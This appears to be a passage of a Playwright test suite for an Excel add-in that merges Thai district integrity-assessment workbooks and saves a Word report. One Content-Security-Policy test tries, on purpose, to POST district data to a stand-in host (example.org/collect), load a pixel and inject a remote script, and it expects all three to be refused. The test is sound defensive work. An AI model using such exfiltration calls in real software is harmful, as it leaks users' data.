      await page.getByRole("list", { name: "ไฟล์ที่ไม่รับ (3)" }).getByRole("listitem").allTextContents()
    ).toEqual([
      'ไม่รับ d-1001-2566.xlsx — ชีต "ITA 2566 รอบ 6": ไฟล์นี้เป็นปี 2566 รอบ 6 เดือน แต่การรวมนี้เป็นปี 2567 รอบ 6 เดือน จึงไม่นำมารวม',
      "ไม่รับ e-scores.csv — ไฟล์ e-scores.csv เป็นไฟล์ข้อความ (เช่น CSV) ไม่ใช่สมุดงาน Excel (.xlsx): เปิดไฟล์แล้วบันทึกเป็น Excel Workbook (.xlsx) แล้วส่งใหม่",
      "ไม่รับ f-report.docx — ไฟล์ f-report.docx เป็นเอกสาร Word (.docx) ไม่ใช่สมุดงาน Excel (.xlsx): กรุณาส่งไฟล์ Excel (.xlsx) ของแบบรายงาน ไม่ใช่รายงานฉบับ Word หรือ PDF",
    ]);
    // The same folder through the command: the same period, the same files merged and refused.
    const r = spawnSync(
      process.execPath,
      [ITA, "merge", ct, dusit, lastYear, csv, word, "-o", path.join(dir, "y.xlsx"), "--json"],
      { encoding: "utf8" }
    );
    const j = JSON.parse(r.stdout);
    expect(j.period).toEqual({ fiscalYear: 2567, round: 6 });
    expect(j.merged.map((m: { file: string }) => path.basename(m.file))).toEqual([
      "b-1002.xlsx",
      "a-1035.xlsx",
    ]);
    expect(j.rejected.map((x: { file: string }) => path.basename(x.file))).toEqual([
      "d-1001-2566.xlsx",
      "e-scores.csv",
      "f-report.docx",
    ]);
    await page.close();
  });

  it("a webview that does not start the download: the pane says the report is not saved and its link saves it", async () => {
    const files = await centralFiles();
    const page = await open(500, "", dropBlobClicks);
    const downloads: string[] = [];
    page.on("download", (d) => downloads.push(d.suggestedFilename()));
    await page.getByRole("heading", { name: "รายงาน ITA สำนักงานเขต" }).waitFor();
    await page.getByRole("tab", { name: "รวมรายงาน" }).click();
    await page
      .getByRole("region", { name: "รวมรายงานของสำนักงานเขต" })
      .locator('input[type="file"]')
      .first()
      .setInputFiles(files.slice(0, 2));
    await page.getByRole("button", { name: "รวมรายงาน", exact: true }).click();
    await page.getByText("เขียนสรุปลงในสมุดงานนี้แล้ว").waitFor();
    await page.getByRole("button", { name: "ดาวน์โหลดรายงานกลาง (.docx)" }).click();
    await page
      .getByText("ยังไม่ได้บันทึก ITA-report-2567-r6.docx: เบราว์เซอร์ของบานหน้าต่างไม่ได้เริ่มดาวน์โหลด")
      .waitFor();
    // The pane knew at once: the click never reached the link, so no download can be on its way.
    expect(downloads).toEqual([]);
    expect(await page.getByText(/เริ่มแล้ว|บันทึก\S* แล้ว/).count()).toBe(0);
    expect(await page.locator("#merge-report-help").textContent()).toBe(
      "ยังไม่ได้บันทึก ITA-report-2567-r6.docx: เบราว์เซอร์ของบานหน้าต่างไม่ได้เริ่มดาวน์โหลด" +
        "กดลิงก์นี้เพื่อบันทึกรายงาน: บันทึก ITA-report-2567-r6.docx" +
        "ถ้ากดแล้วยังไม่มีไฟล์ในโฟลเดอร์ดาวน์โหลด: รวมรายงานอีกครั้งใน Excel บนเว็บหรือ Excel บน Windows" +
        " แล้วดาวน์โหลดจากที่นั่น หรือสร้างรายงานด้วยคำสั่ง ita merge ไฟล์ของเขต --report รายงาน.docx"
    );
    await page.locator("#merge-report-help").scrollIntoViewIfNeeded();
    await checkMerge(page, "12-report-not-started");
    // The user's own click on the link is not a script's: the browser saves the report.
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("link", { name: "บันทึก ITA-report-2567-r6.docx" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("ITA-report-2567-r6.docx");
    const docx = path.join(dir, "report-not-started.docx");
    await download.saveAs(docx);
    expect((await fs.readFile(docx)).subarray(0, 2).toString("latin1")).toBe("PK");
    const text = execFileSync("unzip", ["-p", docx, "word/document.xml"], { encoding: "utf8" });
    expect(text).toContain("สำนักงานเขตจอมทอง");
    expect((page as unknown as { errors: string[] }).errors).toEqual([]);
    expectTalkedToNoOne(page);
    await page.close();
  });

  it("central flow in English and the dark theme on a Mac: reasons in English, the report's save link, no overflow at 270 px", async () => {
    const files = await centralFiles();
    // Opened at 270 px, the default pane width of Excel on the Mac.
    const page = await open(270, "?ui=en-US&theme=dark&platform=Mac");
    await page.getByRole("heading", { name: "ITA District Report" }).waitFor();
    await page.getByRole("tab", { name: "Merge" }).click();
    await page
      .getByRole("region", { name: "Merge district workbooks" })
      .locator('input[type="file"]')
      .first()
      .setInputFiles(files);
    await page.getByRole("button", { name: "Merge", exact: true }).click();
    await page.getByText("The summary is written into this workbook").waitFor();
    await page
      .getByRole("list", { name: "Rejected files (1)" })
      .getByText(
        /c-notes\.xlsx — c-notes\.xlsx is a text file \(such as CSV\), not an Excel workbook/
      )
      .waitFor();
    await page
      .getByRole("list", { name: "Units not received (48)" })
      .getByText("Phra Nakhon")
      .waitFor();
    expect(await page.locator("#merge-counts").textContent()).toBe(
      "1 file rejected · 48 units not received · 2 units merged from 3 files"
    );
    await checkMerge(page, "7-merged-dark-en");
    // Excel for Mac's webview drops downloads: the pane does not try, says so and gives the link.
    const downloads: string[] = [];
    page.on("download", (d) => downloads.push(d.suggestedFilename()));
    await page.getByRole("button", { name: "Download the central report (.docx)" }).click();
    await page
      .getByText(
        "ITA-report-2567-r6.docx is not saved: Excel for Mac and iPad does not save files downloaded from an add-in pane"
      )
      .waitFor();
    expect(downloads).toEqual([]);
    expect(await page.getByText(/started|saved;/).count()).toBe(0);
    await checkMerge(page, "7b-report-mac-dark-en");
    const link = page.getByRole("link", { name: "Save ITA-report-2567-r6.docx" });
    const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
    expect(download.suggestedFilename()).toBe("ITA-report-2567-r6.docx");
    expect((page as unknown as { errors: string[] }).errors).toEqual([]);
    await page.close();
  });

  it("cannot reach anyone else: the Content-Security-Policy refuses requests to other origins", async () => {
    const page = await open(500, "?ui=en-US");
    // Office's UI language is English here, so the pane opens in English.
    await page.getByRole("heading", { name: "ITA District Report" }).waitFor();
    const attempts = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        seen.push(`${e.violatedDirective} ${e.blockedURI}`)
      );
      const tries = [
        fetch("https://example.org/collect", { method: "POST", body: "district data" }).then(
          () => "fetch sent",
          () => "fetch refused"
        ),
        new Promise((resolve) => {
          const img = new Image();
          img.onload = () => resolve("image loaded");
          img.onerror = () => resolve("image refused");
          img.src = "https://example.org/pixel.gif";
        }),
        new Promise((resolve) => {
          const s = document.createElement("script");
          s.onload = () => resolve("script loaded");
          s.onerror = () => resolve("script refused");
          s.src = "https://cdn.example.org/x.js";
          document.head.appendChild(s);
        }),
      ];
      const results = await Promise.all(tries);
      await new Promise((r) => setTimeout(r, 50));
      return { results, seen };
    });
    expect(attempts.results).toEqual(["fetch refused", "image refused", "script refused"]);
    expect(attempts.seen.map((s) => s.split(" ")[0]).sort()).toEqual([
      "connect-src",
      "img-src",
      "script-src-elem",
    ]);
    // Refused by the policy before any request left the page.
    expect(strayRequests(traffic.get(page)!, origin())).toEqual([]);
    await page.close();
  });

  it("lets Office.js load from the CDN's new address and its earlier one, and from no other", async () => {
    const page = await open(500, "?ui=en-US");
    await page.getByRole("heading", { name: "ITA District Report" }).waitFor();
    // Stand-ins for the CDN (no network in the tests): each script records its own address.
    for (const cdn of OFFICE_CDNS)
      await page.route(`${cdn}/**`, (route) =>
        route.fulfill({
          contentType: "text/javascript",
          body: "window.cdnScripts = (window.cdnScripts || []).concat(document.currentScript.src);",
        })
      );
    const attempts = await page.evaluate(
      async (urls) => {
        // The one refusal expected, waited for (its report may come after the script's error event).
        const refusal = new Promise<string>((resolve) =>
          document.addEventListener("securitypolicyviolation", (e) => resolve(e.blockedURI))
        );
        const results = await Promise.all(
          urls.map(
            (src) =>
              new Promise<string>((resolve) => {
                const s = document.createElement("script");
                s.onload = () => resolve(`${src} loaded`);
                s.onerror = () => resolve(`${src} refused`);
                s.src = src;
                document.head.appendChild(s);
              })
          )
        );
        const seen = [await refusal];
        return {
          results,
          seen,
          ran: (window as unknown as { cdnScripts?: string[] }).cdnScripts?.sort(),
        };
      },
      [
        "https://officeapis.public.onecdn.static.microsoft/1/office.js",
        "https://appsforoffice.microsoft.com/lib/1/hosted/office.js",
        "https://officeapis.example.org/1/office.js",
      ]
    );
    expect(attempts).toEqual({
      results: [
        "https://officeapis.public.onecdn.static.microsoft/1/office.js loaded",
        "https://appsforoffice.microsoft.com/lib/1/hosted/office.js loaded",
        "https://officeapis.example.org/1/office.js refused",
      ],
      seen: ["https://officeapis.example.org/1/office.js"],
      // Sorted: inserted scripts run in the order they arrive.
      ran: [
        "https://appsforoffice.microsoft.com/lib/1/hosted/office.js",
        "https://officeapis.public.onecdn.static.microsoft/1/office.js",
      ],
    });
    await page.close();
  });

  it("says it is loading, in Thai and English, until the pane's script has rendered it", async () => {
    // In the page as served, before any script runs.
    const html = await (await fetch(server.url)).text();
    expect(
      /<div id="container">\s*<div id="ita-boot"[\s\S]*?<\/div>\s*<\/div>/.exec(html)?.[0]
    ).toContain('<span lang="th">กำลังโหลด…</span> / <span lang="en">Loading…</span>');
    // In the browser, with the pane's script held back until the loading state has been seen.
    const page = await browser.newPage({
      viewport: { width: 320, height: 400 },
      colorScheme: "dark",
      reducedMotion: "reduce",
    });
    let release: () => void = () => undefined;
    const held = new Promise<void>((r) => (release = r));
    let requested = false;
    await page.route("**/host.js", async (route) => {
      requested = true;
      await held;
      await route.continue();
    });
    await page.goto(server.url, { waitUntil: "commit" });
    const boot = page.locator("#ita-boot");
    await boot.waitFor();
    expect(await boot.textContent()).toMatch(/^\s*กำลังโหลด… \/ Loading…\s*$/);
    expect(await boot.getAttribute("role")).toBe("status");
    // The operating system's dark theme (the Office theme is not known yet).
    expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).toBe(
      "rgb(41, 41, 41)"
    );
    await fs.mkdir(ARTIFACTS, { recursive: true });
    await page.screenshot({ path: path.join(ARTIFACTS, "0-loading-dark-320.png") });
    expect(await page.getByRole("heading").count()).toBe(0);
    release();
    await page.getByRole("heading", { name: "รายงาน ITA สำนักงานเขต" }).waitFor();
    expect(requested).toBe(true);
    // React's first render replaced it.
    expect(await boot.count()).toBe(0);
    expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).toBe(
      "rgba(0, 0, 0, 0)"
    );
    await page.close();
  });

  it("follows a dark Office theme and switches to English", async () => {
    const page = await browser.newPage({ viewport: { width: 320, height: 700 } });
    await page.goto(`${server.url}?theme=dark`);
    await page.getByRole("button", { name: "EN" }).click();
    await page.getByRole("heading", { name: "ITA District Report" }).waitFor();
    const bg = await page.evaluate(
      () => getComputedStyle(document.querySelector("main")!).backgroundColor
    );
    expect(bg).not.toBe("rgb(255, 255, 255)");
    expect(await axe(page)).toEqual([]);
    await screenshots(page, "7-dark-en");
    await page.close();
  });
});
